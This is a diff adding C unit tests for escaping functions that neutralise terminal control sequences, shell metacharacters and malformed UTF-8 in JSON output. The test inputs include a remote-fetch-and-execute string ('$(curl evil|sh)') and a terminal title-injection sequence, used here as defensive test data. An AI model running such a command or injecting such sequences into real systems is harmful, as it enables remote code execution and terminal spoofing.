@@ -79,3 +79,68 @@ TEST(format_time_utc)
 		      "1970-01-01T00:00:00Z"));
 	CHECK(clock_ns(CLOCK_MONOTONIC) > 0);
 }
+
+#include "lib/escape.h"
+
+static char *json_of(const char *s, size_t n)
+{
+	char *out = NULL;
+	size_t len = 0;
+	FILE *f = open_memstream(&out, &len);
+
+	json_escape(f, s, n);
+	fclose(f);
+	return out;
+}
+
+TEST(escape_terminal)
+{
+	char *e;
+
+	e = term_escaped("pve-vm--100--disk--0");
+	CHECK(!strcmp(e, "pve-vm--100--disk--0"));
+	free(e);
+	e = term_escaped("a\033]0;pwned\007b\nc\\d");
+	CHECK(!strcmp(e, "a\\x1b]0;pwned\\x07b\\nc\\\\d"));
+	free(e);
+	e = term_escaped("\xc2\x9b" "2J \xff \xc3\xa9");	/* C1 CSI, a lone byte, é */
+	CHECK(!strcmp(e, "\\xc2\\x9b2J \\xff \xc3\xa9"));
+	free(e);
+	CHECK(term_clean("vm-100-disk-0 \xc3\xa9"));
+	CHECK(!term_clean("x\x7f"));
+}
+
+TEST(escape_shell)
+{
+	char *q;
+
+	q = shell_quoted("pve/vm-100-disk-0");
+	CHECK(!strcmp(q, "pve/vm-100-disk-0"));
+	free(q);
+	q = shell_quoted("x $(curl evil|sh)");
+	CHECK(!strcmp(q, "'x $(curl evil|sh)'"));
+	free(q);
+	q = shell_quoted("it's");
+	CHECK(!strcmp(q, "'it'\\''s'"));
+	free(q);
+	q = shell_quoted("a\033[2Jb'\\");
+	CHECK(!strcmp(q, "$'a\\x1b[2Jb\\'\\\\'"));
+	free(q);
+	q = shell_quoted("");
+	CHECK(!strcmp(q, "''"));
+	free(q);
+}
+
+TEST(escape_json_utf8)
+{
+	char *j;
+
+	j = json_of("a\"\\\n\001\377\xc3\xa9", 8);
+	CHECK(!strcmp(j, "a\\\"\\\\\\n\\u0001\\ufffd\xc3\xa9"));
+	free(j);
+	/* overlong '/' and a UTF-16 surrogate are not UTF-8 */
+	CHECK(!utf8_valid("\xc0\xaf", 2));
+	CHECK(!utf8_valid("\xed\xa0\x80", 3));
+	CHECK(utf8_valid("\xf0\x9f\x92\xbe", 4));
+	CHECK(!utf8_valid("\xf4\x90\x80\x80", 4));
+}
